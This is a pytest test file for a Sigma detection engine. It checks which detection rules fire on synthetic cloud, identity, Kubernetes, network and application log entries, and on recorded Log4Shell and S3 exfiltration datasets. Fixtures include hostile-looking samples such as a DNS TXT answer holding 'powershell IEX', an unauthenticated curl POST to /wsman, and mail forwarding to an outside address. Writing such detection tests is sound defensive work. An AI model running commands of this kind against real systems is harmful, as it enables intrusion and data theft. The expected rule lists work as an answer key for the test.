    "aws cloudtrail, refused": ("json", _trail("DeleteBucket", "s3.amazonaws.com", errorCode="AccessDenied"), []),
    "aws cloudtrail, answer": ("json", _trail("RestoreDBInstanceFromDBSnapshot", "rds.amazonaws.com", responseElements={"publiclyAccessible": True}), ["Restore Public AWS RDS Instance"]),
    "azure auditlogs, targets": ("json", _entra("AuditLogs", "Add eligible member to role", category="RoleManagement", targetResources=[{"type": "User", "modifiedProperties": [{"displayName": "Role.TemplateId", "newValue": '"62e90394-69f5-4237-9190-012177145e10"'}]}]), ["Users Added to Global or Device Admin Roles"]),
    "azure auditlogs, failed": ("json", _entra("AuditLogs", "Invite external user", category="UserManagement", result="failure"), ["Guest User Invited By Non Approved Inviters"]),
    "azure signinlogs, one factor": ("json", _entra("SignInLogs", "Sign-in activity", authenticationRequirement="singleFactorAuthentication"), ["Azure AD Only Single Factor Authentication Required"]),
    "azure signinlogs, disabled": ("json", _entra("SignInLogs", "Sign-in activity", resultType="50057", status={"errorCode": 50057, "failureReason": "The user account is disabled."}), ["Account Disabled or Blocked for Sign in Attempts"]),
    "gcp.audit, permission": ("json", _google("accesscontextmanager.googleapis.com", "DeleteAccessPolicy", authorizationInfo=[{"permission": "accesscontextmanager.accessPolicies.delete", "granted": True}]), ["GCP Access Policy Deleted"]),
    "google_workspace.admin, value": ("json", _google("admin.googleapis.com", "x", metadata={"event": [{"eventName": "ENFORCE_STRONG_AUTHENTICATION", "parameter": [{"name": "NEW_VALUE", "value": "false"}]}]}), ["Google Workspace MFA Disabled"]),
    "m365 audit, forwarding": ("json", _m365("Exchange", "Set-Mailbox", ResultStatus="True", Parameters=[{"Name": "ForwardingSmtpAddress", "Value": "smtp:x@example.net"}]), ["Mail Forwarding/Redirecting Activity In O365"]),
    "okta, proxy": ("json", json.dumps(json.loads(_okta("user.session.start")) | {"securityContext": {"isProxy": True}}), ["Okta User Session Start Via An Anonymising Proxy Service"]),
    "kubernetes application, exec": ("json", _kube("create", "pods", 101, ref={"subresource": "exec"}), ["Potential Remote Command Execution In Pod Container"]),
    "kubernetes application, capabilities": ("json", _kube("create", "pods", 201, requestObject={"spec": {"containers": [{"name": "c", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]}}), ["Privileged Container Deployed"]),
    "dns, answer": ("eve", _eve("dns", type="answer", id=1, rrname="t.example", rrtype="TXT", rcode="NOERROR", answers=[{"rrname": "t.example", "rrtype": "TXT", "ttl": 60, "rdata": "powershell IEX(x)"}]), ["DNS TXT Answer with Possible Execution Strings"]),
    "zeek http, without authentication": ("json", _zeek("http", method="POST", host="x.example", uri="/wsman", status_code=200, request_body_len=900, user_agent="curl/8.0", client_header_names=["HOST", "CONTENT-TYPE"]), ["OMIGOD HTTP No Authentication RCE - CVE-2021-38647"]),
    # --- Applications
    "django": ("text", "[23/Nov/2026 08:00:00] ERROR django.security.DisallowedHost: Invalid HTTP_HOST header: 'x'.", ["Django Framework Exceptions"]),
    "jvm": ("text", "Caused by: com.sun.jndi.ldap.LdapCtx exception", ["Potential JNDI Injection Exploitation In JVM Based Application"]),
    "nodejs": ("syslog", "<14>Nov 23 08:00:00 web1 app[900]: at ChildProcess.spawn (node:child_process:413:9)", ["Potential RCE Exploitation Attempt In NodeJS"]),
    "python": ("json", _json(log="django.db.utils.IntegrityError: duplicate key\n", stream="stderr", time="2026-11-23T08:00:00.123456789Z"), ["Python SQL Exceptions"]),
    "ruby_on_rails": ("text", "ActionController::InvalidAuthenticityToken (ActionController::InvalidAuthenticityToken):", ["Ruby on Rails Framework Exceptions"]),
    "spring": ("text", "org.springframework.expression.ExpressionException: x", ["Potential SpEL Injection In Spring Framework"]),
    "sql": ("text", "ORA-01756: quoted string not properly terminated", ["Suspicious SQL Error Messages"]),
    "velocity": ("text", "org.apache.velocity.exception.ParseErrorException: x", ["Potential Server Side Template Injection In Velocity"]),
}  # fmt: skip


@pytest.mark.parametrize("name", CASES)
def test_exactly_these_rules_fire(engine: SigmaEngine, name: str) -> None:
    form, raw, expected = CASES[name]
    assert fired(engine, form, raw) == sorted(expected)


def test_combined_format_of_squid_is_a_proxy(engine: SigmaEngine) -> None:
    raw = _web("GET http://x.example/pwndrop/a HTTP/1.1")
    assert fired(engine, "web-access", raw, "/var/log/squid/access.log") == ["PwnDrp Access"]
    assert "PwnDrp Access" not in fired(engine, "web-access", raw, "/var/log/nginx/access.log")


def test_every_rule_has_a_logsource_that_is_known(engine: SigmaEngine) -> None:
    assert [info.title for info in engine.rules if not info.routed] == []


def _lines(archive: Path) -> Iterable[str]:
    with zipfile.ZipFile(archive) as unpacked:
        for name in unpacked.namelist():
            if name.endswith(".json"):
                yield from unpacked.read(name).decode().splitlines()


def test_recorded_attack_on_linux(shared: Path, engine: SigmaEngine) -> None:
    """Log4Shell recorded by Sysmon for Linux (corpora/security-datasets): a Java process starts a shell that calls home."""
    found: set[str] = set()
    for line in _lines(shared / "corpora/security-datasets/syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip"):
        found.update(fired(engine, "json", line))
    assert found == {
        "Decode Base64 Encoded Text",
        "Linux Reverse Shell Indicator",
        "Local Groups Discovery - Linux",
        "Suspicious Java Children Processes",
    }


def test_recorded_theft_from_a_bucket(shared: Path, engine: SigmaEngine) -> None:
    """CloudTrail of corpora/security-datasets: credentials of an instance's role used from outside."""
    found: set[str] = set()
    for line in _lines(shared / "corpora/security-datasets/ec2_proxy_s3_exfiltration.zip"):
        found.update(fired(engine, "json", line))
    assert found == {"AWS STS AssumeRole Misuse"}
